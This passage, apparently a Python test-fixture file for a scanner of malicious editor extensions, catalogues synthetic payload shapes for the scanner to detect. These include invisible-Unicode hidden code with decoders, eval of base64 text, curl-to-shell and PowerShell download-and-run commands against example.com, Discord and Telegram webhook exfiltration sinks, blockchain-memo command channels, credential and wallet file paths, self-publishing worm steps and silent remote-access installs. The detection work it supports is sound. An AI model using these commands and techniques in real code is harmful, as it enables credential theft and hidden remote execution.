"""Payload shapes and near misses, written blind: from the catalogue's prose and public reports.

Whoever adds one looks at no rule first, and changes none here after: a shape that the
analyser misses is a miss to count. Every text is synthetic and does nothing. What looks
like a credential is put together at run time, so that none stands in the repository.
"""

import json
import string
from collections.abc import Mapping
from dataclasses import dataclass, field
from random import Random
from typing import Literal, TypeAlias

Level: TypeAlias = Literal["medium", "high", "critical"]

# An extension that lies in every planted directory, so that a pack has a member to name.
COMPANION = "tovikasa.sameduno"
HELLO = 'console.log("hello from the test")'


@dataclass(frozen=True)
class Plant:
    """What is put into a real extension.

    ``code`` stands at the boundary of two statements of its bundle, ``element`` inside a
    list in it. ``manifest`` replaces fields of package.json; ``None`` takes one away.
    """

    code: str = ""
    element: str = ""
    files: Mapping[str, bytes] = field(default_factory=dict)
    manifest: Mapping[str, object] = field(default_factory=dict)


@dataclass(frozen=True)
class Shape:
    """A payload that has to be found by a finding of ``severity`` or worse."""

    name: str
    check: int
    severity: Level
    plant: Plant
    expects_text: str | None = None  # that was hidden, and that the finding has to show


@dataclass(frozen=True)
class Near:
    """What looks like a payload and is none: nothing of medium or worse may be said of it."""

    name: str
    check: int
    plant: Plant


def hidden(text: str) -> str:
    """Write each byte as one variation selector, as GlassWorm does."""
    return "".join(chr(0xFE00 + b if b < 16 else 0xE0100 + b - 16) for b in text.encode())


def tags(text: str) -> str:
    """Write each ASCII character as the invisible tag character for it."""
    return "".join(chr(0xE0000 + ord(letter)) for letter in text)


def bits(text: str, zero: str, one: str) -> str:
    """Write each bit as one of two zero-width characters."""
    return "".join(one if bit == "1" else zero for b in text.encode() for bit in f"{b:08b}")


def body(length: int, letters: str = string.ascii_letters + string.digits) -> str:
    """Make what stands behind a token's prefix. The same length and letters: the same text."""
    return "".join(Random(f"{length}{letters}").choices(letters, k=length))


def code(text: str) -> Plant:
    return Plant(code=text)


def element(text: str) -> Plant:
    return Plant(element=text)


def file(path: str, content: str | bytes) -> Plant:
    return Plant(files={path: content.encode() if isinstance(content, str) else content})


def manifest(**changes: object) -> Plant:
    return Plant(manifest=changes)


def installed(name: str, version: str) -> Plant:
    package = {"name": name, "version": version, "main": "index.js"}
    return Plant(
        files={
            f"node_modules/{name}/package.json": json.dumps(package).encode(),
            f"node_modules/{name}/index.js": b"module.exports={};\n",
        }
    )


_UPPER = string.ascii_uppercase + string.digits
_LOWER = string.ascii_lowercase + string.digits
_DIGITS = string.digits
_HEX = string.digits + "abcdef"
_URL = string.ascii_letters + string.digits + "-_"
_BASE64 = "Y29uc29sZS5sb2coImhlbGxvIik="  # console.log("hello")
_BASE64_LONG = (
    "Y29uc29sZS5sb2coImhlbGxvIGZyb20gdGhlIHRlc3QsIGEgc2Vjb25kIHRpbWUgYW5kIGEgdGhpcmQiKQ=="
)
_COMMIT = "9f2c41d07be35a8864f1c0d2e7ab935518d6e0fa"

_AWS = "AKIA" + body(16, _UPPER)
_GITHUB = "ghp_" + body(36)
_GITHUB_FINE = "github_pat_" + body(22) + "_" + body(59)
_NPM = "npm_" + body(36)
_GITLAB = "glpat-" + body(20)
_STRIPE = "sk_live_" + body(24)
_SLACK = "xoxb-" + body(12, _DIGITS) + "-" + body(13, _DIGITS) + "-" + body(24)
_GOOGLE = "AIza" + body(35, _URL)
_SENDGRID = "SG." + body(22, _URL) + "." + body(43, _URL)
_AZURE = body(52) + "JQQJ99" + body(18) + "AZDO" + body(4)
_MARKETPLACE = body(52, string.ascii_lowercase + "234567")
_UUID = "-".join(body(n, _HEX) for n in (8, 4, 4, 4, 12))
_OPEN_VSX = "ovsxp_" + _UUID
_OPENAI = "sk-proj-" + body(48)

_DISCORD_ID = body(19, "123456789")
_DISCORD = "discord.com/api/webhooks/" + _DISCORD_ID + "/" + body(68, _URL)
_TELEGRAM = "api.telegram.org/bot" + body(10, "123456789") + ":AA" + body(33, _URL)
_SLACK_HOOK = (
    "hooks.slack.com/services/T" + body(10, _UPPER) + "/B" + body(10, _UPPER) + "/" + body(24)
)


def _pem(label: str) -> str:
    lines = "\n".join(
        "".join(Random(n).choices(string.ascii_letters + string.digits + "+/", k=64))
        for n in range(12)
    )
    return f"-----BEGIN {label}-----\n{lines}\n-----END {label}-----\n"


def _obfuscated(names: int) -> str:
    """Declare some variables as a well-known obfuscator names them."""
    picked = Random(names).sample(range(0x10000, 0xFFFFF), names)
    return "".join(f"var _0x{n:x}={n % 97};" for n in picked)


_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(200)
_PE = (
    b"MZ"
    + bytes(58)
    + (128).to_bytes(4, "little")
    + bytes(64)
    + b"PE\x00\x00\x64\x86\x01\x00"
    + bytes(200)
)
_MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + bytes(200)
_PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89" + bytes(40)
)
_SCRIPT = (
    b'const cp=require("child_process");exports.run=function(){return cp.execSync("echo hello")};\n'
)

_INVISIBLE: tuple[Shape, ...] = (
    Shape("selectors-in-a-template", 3, "high", code(f"var q0=`{hidden(HELLO)}`;"), HELLO),
    Shape("selectors-in-single-quotes", 3, "high", element(f"'{hidden(HELLO)}'"), HELLO),
    Shape("selectors-in-double-quotes", 3, "high", element(f'"{hidden(HELLO)}"'), HELLO),
    Shape(
        "selectors-behind-an-emoji", 3, "high", element(f'"ok \U0001f600{hidden(HELLO)}"'), HELLO
    ),
    Shape("selectors-in-a-block-comment", 3, "high", code(f"/*{hidden(HELLO)}*/"), HELLO),
    Shape("selectors-as-a-property", 3, "high", code(f"var q1={{'{hidden(HELLO)}':1}};"), HELLO),
    Shape(
        "selectors-with-their-decoder",
        3,
        "high",
        code(
            "var u0=t=>{let r=[];for(const c of t){const p=c.codePointAt(0);if(p>=0xE0100&&p<=0xE01EF)"
            "r.push(p-0xE0100+16);else if(p>=0xFE00&&p<=0xFE0F)r.push(p-0xFE00)}return Buffer.from(r)};"
            f"eval(u0(`{hidden(HELLO)}`).toString());"
        ),
        HELLO,
    ),
    Shape(
        "selectors-with-a-decoder-in-decimal",
        3,
        "high",
        code(
            "function u1(t){return Array.from(t,function(c){var p=c.codePointAt(0);return p>917759?"
            "p-917744:p-65024})}new Function(Buffer.from(u1('"
            f"{hidden(HELLO)}')).toString('utf8'))();"
        ),
        HELLO,
    ),
    Shape(
        "selectors-of-a-long-text",
        3,
        "high",
        code(f"var q2=`{hidden('// a long and harmless line of text' * 80 + HELLO)}`;"),
        "a long and harmless line",
    ),
    Shape(
        "selectors-of-a-text-beyond-ascii",
        3,
        "high",
        code("var q3='" + hidden('console.log("gr\u00fc\u00dfe aus dem test")') + "';"),
        "gr\u00fc\u00dfe aus dem test",
    ),
    Shape(
        "selectors-of-many-short-lines",
        3,
        "high",
        code("var q4=`" + hidden("let a = 1;\n\tlet b = 2;\n\tconsole.log(a + b)\n") + "`;"),
        "console.log(a + b)",
    ),
    Shape(
        "selectors-in-two-halves",
        3,
        "high",
        code(f'var q5="{hidden(HELLO[:17])}"+"{hidden(HELLO[17:])}";'),
        HELLO[:17],
    ),
    Shape(
        "selectors-cut-by-spaces",
        3,
        "high",
        code("var q6=`" + " ".join(hidden(HELLO[n : n + 10]) for n in range(0, 34, 10)) + "`;"),
    ),
    Shape(
        "selectors-between-letters",
        3,
        "high",
        code("var q7='" + "".join("a" + hidden(HELLO[n : n + 3]) for n in range(0, 34, 3)) + "';"),
    ),
    Shape(
        "selectors-by-half-bytes",
        3,
        "high",
        code(
            "var q8=`"
            + "".join(chr(0xFE00 + n) for b in HELLO.encode() for n in divmod(b, 16))
            + "`;"
        ),
    ),
    Shape("a-pair-of-supplementary-selectors", 3, "high", element('"x\U000e0155\U000e0156"')),
    Shape(
        "selectors-as-code-point-escapes",
        3,
        "high",
        code('var q9="' + "".join(rf"\u{{{ord(c):x}}}" for c in hidden(HELLO)) + '";'),
        HELLO,
    ),
    Shape(
        "selectors-in-a-file-of-their-own",
        3,
        "high",
        file("dist/strings.js", f"module.exports=`{hidden(HELLO)}`;\n"),
        HELLO,
    ),
    Shape(
        "selectors-in-a-module-file",
        3,
        "high",
        file("dist/strings.mjs", f"export default '{hidden(HELLO)}';\n"),
        HELLO,
    ),
    Shape(
        "selectors-in-a-data-file",
        3,
        "high",
        file("dist/strings.json", f'{{"greeting":"hello{hidden(HELLO)}"}}\n'),
        HELLO,
    ),
    Shape(
        "selectors-in-the-description",
        3,
        "high",
        manifest(description=f"Tools{hidden(HELLO)}"),
        HELLO,
    ),
    Shape(
        "tags-in-a-string",
        3,
        "high",
        element(f'"hi{tags("hello from the test")}"'),
        "hello from the test",
    ),
    Shape(
        "tags-in-a-comment",
        3,
        "high",
        code(f"/* note {tags('print a greeting')} */"),
        "print a greeting",
    ),
    Shape(
        "tags-behind-a-flag",
        3,
        "high",
        element(f'"\U0001f3f4{tags("gbeng")}\U000e007f{tags("hello from the test")}"'),
        "hello from the test",
    ),
    Shape(
        "bits-of-joiners", 3, "high", code(f"var b0='{bits('hello', chr(0x200B), chr(0x200C))}';")
    ),
    Shape(
        "bits-of-word-joiners",
        3,
        "high",
        code(f"var b1=`{bits('hello', chr(0x2060), chr(0xFEFF))}`;"),
    ),
    Shape("eight-zero-width-spaces", 3, "high", element('"a' + chr(0x200B) * 8 + 'b"')),
)

_DECODERS: tuple[Shape, ...] = (
    Shape("decoder-in-hex", 4, "high", code("function d0(p){return p>=0xFE00&&p<=0xFE0F?p-0xFE00:p>=0xE0100&&p<=0xE01EF?p-0xE0100+16:-1}")),
    Shape("decoder-in-decimal", 4, "high", code("var d1=p=>p<65040?p-65024:p-917760+16;")),
    Shape("decoder-in-lower-case", 4, "high", code("var d2=p=>p>=0xe0100?p-0xe0100+0x10:p-0xfe00;")),
    Shape("decoder-with-a-capital-x", 4, "high", code("var d3=p=>p>=0XE0100?p-0XE0100+16:p-0XFE00;")),
    Shape("decoder-that-mixes-bases", 4, "high", code("var d4=function(p){if(p>=917760)return p-0xE0100+16;return p-65024};")),
    Shape("decoder-with-names", 4, "high", code("const VS=0xFE00,VS_SUP=0xE0100;function d5(s){return[...s].map(c=>c.codePointAt()).map(c=>c>=VS_SUP?c-VS_SUP+16:c-VS)}")),
    Shape("decoder-in-two-lines", 4, "high", code("function d6(p){\n  if (p >= 0xFE00 && p <= 0xFE0F) return p - 0xFE00;\n  if (p >= 0xE0100 && p <= 0xE01EF) return p - 0xE0100 + 16;\n}")),
    Shape("decoder-with-comments", 4, "high", code("var d7=p=>p>=0xE0100/*second block*/?p-0xE0100+16/*after the first*/:p-0xFE00/*first block*/;")),
    Shape("decoder-with-folded-arithmetic", 4, "high", code("var d8=p=>p>65039?p-917744:p-65024;")),
    Shape("decoder-with-separators", 4, "high", code("var d9=p=>p>=0xE_0100?p-0xE_0100+16:p-0xFE_00;")),
    Shape("decoder-by-escapes", 4, "high", code(r'var da=c=>c>="\u{E0100}"?c.codePointAt(0)-"\u{E0100}".codePointAt(0)+16:c.charCodeAt(0)-"\uFE00".charCodeAt(0);')),
    Shape("decoder-by-surrogates", 4, "high", code("function db(s){var r=[],i=0;for(;i<s.length;i++){var c=s.charCodeAt(i);if(c===0xDB40)r.push(s.charCodeAt(++i)-0xDD00+16);else r.push(c-0xFE00)}return r}")),
)  # fmt: skip

_DYNAMIC: tuple[Shape, ...] = (
    Shape("eval-of-atob", 5, "high", code(f'eval(atob("{_BASE64}"));')),
    Shape("eval-of-atob-with-spaces", 5, "high", code(f"eval ( atob ( '{_BASE64}' ) ) ;")),
    Shape("eval-of-atob-in-lines", 5, "high", code(f"eval(\n  atob(\n    `{_BASE64}`\n  )\n);")),
    Shape("eval-of-atob-with-comments", 5, "high", code(f'eval(/* a */atob/* b */("{_BASE64}"));')),
    Shape("indirect-eval", 5, "high", code(f'(0,eval)(atob("{_BASE64}"));')),
    Shape("eval-in-brackets", 5, "high", code(f'globalThis["eval"](atob("{_BASE64}"));')),
    Shape("eval-of-window", 5, "high", code(f"window.eval(window.atob('{_BASE64}'));")),
    Shape("eval-in-pieces", 5, "high", code(f'globalThis["ev"+"al"](atob("{_BASE64}"));')),
    Shape("eval-by-hex-escapes", 5, "high", code(rf'global["\x65\x76\x61\x6c"](atob("{_BASE64}"));')),
    Shape("eval-by-unicode-escapes", 5, "high", code(rf'ev\u0061l(atob("{_BASE64}"));')),
    Shape("eval-by-another-name", 5, "high", code(f'const e5=eval;e5(atob("{_BASE64}"));')),
    Shape("eval-called", 5, "high", code(f'eval.call(null,atob("{_BASE64}"));')),
    Shape("eval-optionally", 5, "high", code(f'eval?.(atob("{_BASE64}"));')),
    Shape("eval-of-a-buffer", 5, "high", code(f'eval(Buffer.from("{_BASE64}","base64").toString());')),
    Shape("eval-of-a-buffer-in-hex", 5, "high", code("eval(Buffer.from('636f6e736f6c652e6c6f672831293b','hex').toString('utf8'));")),
    Shape("eval-of-a-new-buffer", 5, "high", code(f'eval(new Buffer("{_BASE64}","base64").toString("ascii"));')),
    Shape("eval-of-a-buffer-in-brackets", 5, "high", code(f'eval(Buffer["from"]("{_BASE64}","base64")["toString"]());')),
    Shape("eval-of-a-text-of-a-buffer", 5, "high", code(f'eval(""+Buffer.from("{_BASE64}","base64"));')),
    Shape("eval-of-a-string-of-a-buffer", 5, "high", code(f'eval(String(Buffer.from("{_BASE64}","base64")));')),
    Shape("eval-of-character-codes", 5, "high", code("eval(String.fromCharCode(99,111,110,115,111,108,101,46,108,111,103,40,49,41));")),
    Shape("function-of-atob", 5, "high", code(f'new Function(atob("{_BASE64}"))();')),
    Shape("function-of-atob-without-new", 5, "high", code(f"Function(atob('{_BASE64}'))();")),
    Shape("function-with-a-parameter", 5, "high", code(f'new Function("require",atob("{_BASE64}"))(require);')),
    Shape("function-of-a-buffer", 5, "high", code(f'new Function(Buffer.from("{_BASE64}","base64").toString("utf-8"))();')),
    Shape("function-by-its-constructor", 5, "high", code(f'(()=>{{}}).constructor(atob("{_BASE64}"))();')),
    Shape("vm-of-a-buffer", 5, "high", code(f'require("vm").runInThisContext(Buffer.from("{_BASE64_LONG}","base64").toString());')),
    Shape("vm-script-of-a-buffer", 5, "high", code(f'new(require("vm").Script)(Buffer.from("{_BASE64_LONG}","base64").toString()).runInThisContext();')),
    Shape("timer-of-atob", 5, "high", code(f'setTimeout(atob("{_BASE64}"),10);')),
    Shape("module-compiled-from-a-buffer", 5, "high", code(f'module._compile(Buffer.from("{_BASE64}","base64").toString(),"x.js");')),
    Shape("text-kept-before-eval", 5, "high", code(f'var k5=atob("{_BASE64_LONG}");eval(k5);')),
    Shape("eval-of-a-percent-text", 5, "high", code('eval(decodeURIComponent(atob("Y29uc29sZS5sb2coMSk=")));')),
)  # fmt: skip

_FETCHES: tuple[Shape, ...] = (
    Shape("npx-of-a-commit", 6, "high", code(f'require("child_process").exec("npx github:example-owner/example-repo#{_COMMIT}");')),
    Shape("npx-of-a-short-commit", 6, "high", code('cp.execSync("npx -y github:example-owner/example-repo#9f2c41d");')),
    Shape("npx-of-a-commit-in-a-list", 6, "high", code(f"spawn('npx',['--yes','github:example-owner/example-repo#{_COMMIT}'],{{stdio:'ignore',detached:!0}});")),
    Shape("npm-exec-of-a-commit", 6, "high", code(f"execSync(`npm exec --yes github:example-owner/example-repo#{_COMMIT} -- start`);")),
    Shape("npx-on-windows", 6, "high", code(f'spawn("npx.cmd",["-y","github:example-owner/example-repo#{_COMMIT}"],{{shell:!0,windowsHide:!0}});')),
    Shape("npx-of-a-git-address", 6, "high", code(f'exec("npx git+https://github.com/example-owner/example-repo.git#{_COMMIT}");')),
    Shape("powershell-enc", 6, "high", code('exec("powershell -enc ZQBjAGgAbwAgAGgAZQBsAGwAbwA=");')),
    Shape("powershell-encodedcommand", 6, "high", code("exec('powershell.exe -NoProfile -EncodedCommand ZQBjAGgAbwAgAGgAZQBsAGwAbwA=');")),
    Shape("powershell-e", 6, "high", code('exec("powershell -nop -e ZQBjAGgAbwAgAGgAZQBsAGwAbwA=");')),
    Shape("powershell-hidden", 6, "high", code('exec("powershell -w hidden -c echo hello");')),
    Shape("powershell-hidden-in-full", 6, "high", code('exec(`PowerShell.exe -NoLogo -WindowStyle Hidden -ExecutionPolicy Bypass -Command "echo hello"`);')),
    Shape("powershell-hidden-in-a-list", 6, "high", code('spawn("powershell.exe",["-ExecutionPolicy","Bypass","-WindowStyle","Hidden","-Command","echo hello"]);')),
    Shape("powershell-enc-in-a-list", 6, "high", code("spawn('powershell',['-NoP','-Enc','ZQBjAGgAbwAgAGgAZQBsAGwAbwA=']);")),
    Shape("pwsh-hidden", 6, "high", code('exec("pwsh -WindowStyle Hidden -Command Get-Date");')),
    Shape("powershell-iex-iwr", 6, "high", code('exec("powershell -c iex (iwr https://example.com/hello.ps1)");')),
    Shape("powershell-irm-iex", 6, "high", code('exec("powershell -c \\"irm https://example.com/hello.ps1 | iex\\"");')),
    Shape("powershell-iex-downloadstring", 6, "high", code("exec(\"powershell IEX((New-Object Net.WebClient).DownloadString('https://example.com/hello.ps1'))\");")),
    Shape("powershell-invoke-expression", 6, "high", code('exec("powershell -Command \\"Invoke-Expression (Invoke-WebRequest https://example.com/hello.ps1).Content\\"");')),
    Shape("curl-to-sh", 6, "high", code('exec("curl -fsSL https://example.com/hello | sh");')),
    Shape("curl-to-bash", 6, "high", code("cp.exec('curl -s https://example.com/hello.sh | bash');")),
    Shape("curl-to-bash-without-spaces", 6, "high", code("cp.exec(`curl -sL https://example.com/hello.sh|bash`);")),
    Shape("curl-to-bash-by-path", 6, "high", code('cp.exec("curl -sSf https://example.com/hello.sh | /bin/bash -s -- -q");')),
    Shape("curl-to-sudo-sh", 6, "high", code('cp.exec("curl https://example.com/hello.sh | sudo sh");')),
    Shape("curl-to-zsh-by-nohup", 6, "high", code('cp.exec("nohup curl -k https://example.com/hello | zsh &");')),
    Shape("wget-to-bash", 6, "high", code('exec("wget -qO- https://example.com/hello | bash");')),
    Shape("wget-to-sh", 6, "high", code("exec('wget -q -O - https://example.com/hello|sh');")),
    Shape("bash-of-curl", 6, "high", code('exec("bash -c \\"$(curl -fsSL https://example.com/hello)\\"");')),
    Shape("bash-from-curl", 6, "high", code('exec("bash <(curl -s https://example.com/hello)");')),
    Shape("curl-to-sh-in-a-script", 6, "high", file("bin/setup.sh", "#!/bin/sh\ncurl -fsSL https://example.com/hello | sh\n")),
    Shape("iex-in-a-script", 6, "high", file("bin/setup.ps1", "iex (iwr 'https://example.com/hello.ps1' -UseBasicParsing)\r\n")),
    Shape("hidden-powershell-in-a-batch-file", 6, "high", file("bin/setup.cmd", "@echo off\r\npowershell -w hidden -enc ZQBjAGgAbwAgAGgAZQBsAGwAbwA=\r\n")),
)  # fmt: skip

_SINKS: tuple[Shape, ...] = (
    Shape("discord-webhook", 7, "high", element(f'"https://{_DISCORD}"')),
    Shape("discord-webhook-in-a-call", 7, "high", code(f"fetch('https://{_DISCORD}',{{method:'POST',body:JSON.stringify({{content:'hi'}})}});")),
    Shape("discord-webhook-of-the-old-host", 7, "high", code(f'var w7=`https://{_DISCORD.replace("discord.com", "discordapp.com")}`;')),
    Shape("discord-webhook-of-a-test-host", 7, "high", code(f'var w8="https://ptb.{_DISCORD}?wait=true";')),
    Shape("discord-webhook-with-a-version", 7, "high", code(f'var w9="https://{_DISCORD.replace("/api/", "/api/v10/")}";')),
    Shape("discord-webhook-in-pieces", 7, "high", code(f'var wa="https://discord.com/api/"+"webhooks/{_DISCORD.partition("webhooks/")[2]}";')),
    Shape("discord-webhook-by-host-and-path", 7, "high", code(f'https.request({{hostname:"discord.com",path:"/{_DISCORD.partition("/")[2]}",method:"POST"}});')),
    Shape("telegram-bot", 7, "high", element(f'"https://{_TELEGRAM}/sendMessage"')),
    Shape("telegram-bot-with-a-document", 7, "high", code(f"axios.post(`https://{_TELEGRAM}/sendDocument?chat_id=1`,f0);")),
    Shape("telegram-token-beside-its-address", 7, "high", code(f'var tk="{_TELEGRAM.partition("/bot")[2]}";fetch(`https://api.telegram.org/bot${{tk}}/sendMessage`);')),
    Shape("slack-webhook", 7, "high", element(f"'https://{_SLACK_HOOK}'")),
    Shape("slack-workflow-webhook", 7, "high", code(f'fetch("https://{_SLACK_HOOK.replace("services", "workflows")}",{{method:"POST"}});')),
    Shape("address-by-number", 7, "high", code('fetch("http://93.184.216.34/hello");')),
    Shape("address-by-number-with-a-port", 7, "high", element("'http://93.184.216.34:8080/api/v1/items'")),
    Shape("address-by-number-in-a-template", 7, "high", code("fetch(`https://93.184.216.34/${n7}/wall`);")),
    Shape("address-by-number-of-a-socket", 7, "high", code('new WebSocket("ws://93.184.216.34:3000");')),
    Shape("address-by-number-in-version-six", 7, "high", code('fetch("http://[2606:2800:220:1:248:1893:25c8:1946]:8080/hello");')),
    Shape("address-as-one-number", 7, "high", code('fetch("http://1572395042/hello");')),
    Shape("address-by-number-escaped", 7, "high", code(r'fetch("http:\/\/93.184.216.34\/hello");')),
    Shape("address-by-number-with-credentials", 7, "high", code('fetch("http://user:word@93.184.216.34:81/hello");')),
)  # fmt: skip

_CHAINS: tuple[Shape, ...] = (
    Shape("solana-signatures-and-exec", 8, "high", code('fetch("https://api.mainnet-beta.solana.com",{method:"POST",body:JSON.stringify({jsonrpc:"2.0",id:1,method:"getSignaturesForAddress",params:["Examp1eAddressThatDoesNotExist11111111111111",{limit:1}]})}).then(r=>r.json()).then(r=>require("child_process").exec(r.result[0].memo));')),
    Shape("solana-signatures-and-eval", 8, "high", code("c8.getSignaturesForAddress(new k8.PublicKey(a8),{limit:10}).then(s=>eval(s[0].memo));")),
    Shape("solana-signatures-and-vm", 8, "high", code("var v8=require('node:vm');async function g8(){let s=await c9['getSignaturesForAddress'](a9);v8.runInNewContext(s[0].memo)}")),
    Shape("solana-memo-and-spawn", 8, "high", code('var m8="MemoSq4gqABAXKb96qnH8TysNcWxMyWCqXgDLGmfcHr";require("child_process").spawn("node",["-e",x8(m8)]);')),
    Shape("solana-memo-of-version-one-and-eval", 8, "high", code("var m9='Memo1UhkJRfHyvLMcVucJwxXeuD728EqVDDwQDxFMNo';eval(x9(m9));")),
    Shape("ethereum-call-and-eval", 8, "high", code('fetch("https://mainnet.infura.io/v3/0",{method:"POST",body:\'{"jsonrpc":"2.0","id":1,"method":"eth_call","params":[{"to":"0x0000000000000000000000000000000000000001","data":"0x"},"latest"]}\'}).then(e=>e.text()).then(e=>eval(e));')),
    Shape("ethereum-transaction-and-exec", 8, "high", code("r8('https://cloudflare-eth.com',{method:'eth_getTransactionByHash',params:[h8]}).then(t=>require('child_process').execSync(Buffer.from(t.input.slice(2),'hex').toString()));")),
    Shape("ethereum-provider-and-exec", 8, "high", code('var p8=new ethers.JsonRpcProvider("https://eth.llamarpc.com");new ethers.Contract("0x0000000000000000000000000000000000000001",["function getString(address) view returns (string)"],p8).getString(o8).then(u=>require("child_process").exec("curl "+u));')),
)  # fmt: skip

_THEFTS: tuple[Shape, ...] = (
    Shape("theft-of-three", 9, "high", code('["/Library/Application Support/Google/Chrome/Default/Login Data",".ssh/id_rsa",".aws/credentials"].map(f=>fs.readFileSync(path.join(os.homedir(),f)));')),
    Shape("theft-of-keys-and-git", 9, "high", code("var t0=['.ssh/id_ed25519','.git-credentials','.aws/credentials'].filter(f=>fs.existsSync(h0+'/'+f));")),
    Shape("theft-on-windows", 9, "high", code(r'var t1=["\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data","\\.ssh\\id_rsa","\\.aws\\credentials"];')),
    Shape("theft-with-joined-paths", 9, "high", code('var t2=[path.join(h2,".ssh","id_rsa"),path.join(h2,".aws","credentials"),path.join(h2,".git-credentials")];')),
    Shape("theft-in-templates", 9, "high", code("var t3=[`${h3}/.ssh/id_ecdsa`,`${h3}/.aws/credentials`,`${h3}/Login Data`];")),
    Shape("theft-of-three-wallets", 9, "high", code('var t4=["nkbihfbeogaeaoehlefnkodbefgpgknn","bfnaelmomeimhlpmgjnjophhpkkoljpa","hnfanknocfeofbddgcijnmhnfnkdnaad"];')),
    Shape("theft-of-a-wallet-a-browser-and-a-key", 9, "high", code("z4({a:'nkbihfbeogaeaoehlefnkodbefgpgknn',b:'User Data/Default/Login Data',c:'.ssh/id_dsa'});")),
    Shape("theft-of-three-far-apart", 9, "high", code("var t5='.ssh/id_rsa';" + "n5=n5+1;" * 400 + "var t6='.aws/credentials';" + "n5=n5+2;" * 400 + "var t7='.git-credentials';")),
)  # fmt: skip

_SPREADS: tuple[Shape, ...] = (
    Shape("install-extension-by-exec", 10, "high", code('require("child_process").exec("code --install-extension example.example --force");')),
    Shape("install-extension-in-a-list", 10, "high", code("cp.execFile('code',['--install-extension',f0,'--force']);")),
    Shape("install-extension-in-a-template", 10, "high", code("require('child_process').execSync(`\"${p0}\" --install-extension \"${f0}\"`,{windowsHide:!0});")),
    Shape("install-extension-of-another-editor", 10, "high", code('require("child_process").spawnSync("cursor",["--install-extension",v0],{shell:!0});')),
    Shape("vsce-publish", 10, "high", code('require("child_process").execSync("vsce publish -p "+t0);')),
    Shape("vsce-publish-by-npx", 10, "high", code("exec('npx @vscode/vsce publish --packagePath '+f0);")),
    Shape("vsce-publish-in-a-list", 10, "high", code('spawnSync("vsce",["publish","--pat",t0]);')),
    Shape("ovsx-publish", 10, "high", code("cp.exec(`npx ovsx publish ${f0} -p ${t0}`);")),
    Shape("ovsx-publish-in-a-list", 10, "high", code('spawn("npx",["--yes","ovsx","publish",f0,"-p",t0]);')),
    Shape("npm-publish", 10, "high", code('cp.execSync("npm publish --access public",{cwd:d0});')),
    Shape("npm-publish-in-a-list", 10, "high", code("spawn('npm',['publish','--access=public'],{cwd:d0});")),
)  # fmt: skip

_REMOTES: tuple[Shape, ...] = (
    Shape("screenconnect-address", 11, "high", code('fetch("https://example.screenconnect.com/Bin/ScreenConnect.ClientSetup.msi?e=Access&y=Guest");')),
    Shape("screenconnect-setup", 11, "high", code("exec('msiexec /i %TEMP%\\\\ScreenConnect.ClientSetup.msi /qn');")),
    Shape("screenconnect-client", 11, "high", element('"ScreenConnect.WindowsClient.exe"')),
    Shape("screenconnect-service-in-a-script", 11, "high", file("bin/run.cmd", 'start ScreenConnect.ClientService.exe "?e=Access&y=Guest&h=example.com&p=8041"\r\n')),
    Shape("anydesk-silent", 11, "high", code('exec("AnyDesk.exe --install C:\\\\ProgramData\\\\AnyDesk --start-with-win --silent");')),
    Shape("anydesk-silent-in-a-list", 11, "high", code("spawn('anydesk.exe',['--install',d1,'--start-with-win','--silent']);")),
    Shape("anydesk-password", 11, "high", code('exec("echo hello1234 | anydesk.exe --set-password");')),
    Shape("anydesk-silent-in-a-script", 11, "high", file("bin/get.ps1", "Start-Process AnyDesk.exe -ArgumentList '--install','C:\\AnyDesk','--silent'\r\n")),
)  # fmt: skip

_THEME = {"themes": [{"label": "Dusk", "uiTheme": "vs-dark", "path": "./themes/dusk.json"}]}
_THEME_FILES = {"themes/dusk.json": b'{"name":"Dusk","type":"dark","colors":{}}'}
_GRAMMAR = {
    "languages": [{"id": "zot", "extensions": [".zot"]}],
    "grammars": [{"language": "zot", "scopeName": "source.zot", "path": "./zot.json"}],
}
_GRAMMAR_FILES = {"zot.json": b'{"scopeName":"source.zot","patterns":[]}'}
_SNIPPETS = {"snippets": [{"language": "ruby", "path": "./snippets.json"}]}
_SNIPPET_FILES = {"snippets.json": b"{}"}
_LOCALE = {
    "localizations": [
        {
            "languageId": "tlh",
            "languageName": "Klingon",
            "localizedLanguageName": "tlhIngan",
            "translations": [{"id": "vscode", "path": "./main.i18n.json"}],
        }
    ]
}
_LOCALE_FILES = {"main.i18n.json": b'{"version":"1.0.0","contents":{}}'}
_ICONS = {"iconThemes": [{"id": "dusk", "label": "Dusk", "path": "./icons.json"}]}
_ICON_FILES = {"icons.json": b'{"iconDefinitions":{}}'}

_NAMES: tuple[Shape, ...] = (
    Shape("listed-as-malware", 1, "critical", manifest(publisher="ahban", name="shiba")),
    Shape("listed-as-malware-in-other-case", 1, "critical", manifest(publisher="bigblack", name="Codo-AI")),
    Shape("listed-as-impersonation", 1, "high", manifest(publisher="publishingsofficial", name="prettier-vscode-plus")),
    Shape("listed-for-one-version", 1, "high", manifest(publisher="nrwl", name="angular-console", version="18.95.0")),
    Shape("package-event-stream", 2, "high", installed("event-stream", "3.3.6")),
    Shape("package-flatmap-stream", 2, "high", installed("flatmap-stream", "0.1.1")),
    Shape("package-ua-parser", 2, "high", installed("ua-parser-js", "0.7.29")),
    Shape("package-eslint-scope", 2, "high", installed("eslint-scope", "3.7.2")),
    Shape("package-debug", 2, "high", installed("debug", "4.4.2")),
    Shape("package-in-a-package", 2, "high", Plant(files={
        "node_modules/ps-tree/package.json": b'{"name":"ps-tree","version":"1.2.0"}',
        "node_modules/ps-tree/node_modules/event-stream/package.json": b'{"name":"event-stream","version":"3.3.6"}',
    })),
    Shape("a-popular-name", 12, "medium", manifest(publisher="kamebano", name="prettier-vscode", displayName="Prettier - Code formatter")),
    Shape("a-popular-title", 12, "medium", manifest(displayName="ESLint")),
    Shape("a-popular-name-in-brackets", 12, "medium", manifest(publisher="fubodeka", name="python", displayName="Python")),
    Shape("a-publisher-with-rn-for-m", 12, "medium", manifest(publisher="rns-python", name="python")),
    Shape("a-publisher-with-rn-for-m-inside", 12, "medium", manifest(publisher="dbaeurner", name="vscode-eslint")),
    Shape("a-publisher-with-capital-i-for-l", 12, "medium", manifest(publisher="rust-Iang", name="rust-analyzer")),
    Shape("a-publisher-with-one-for-l", 12, "medium", manifest(publisher="rust-1ang", name="rust-analyzer")),
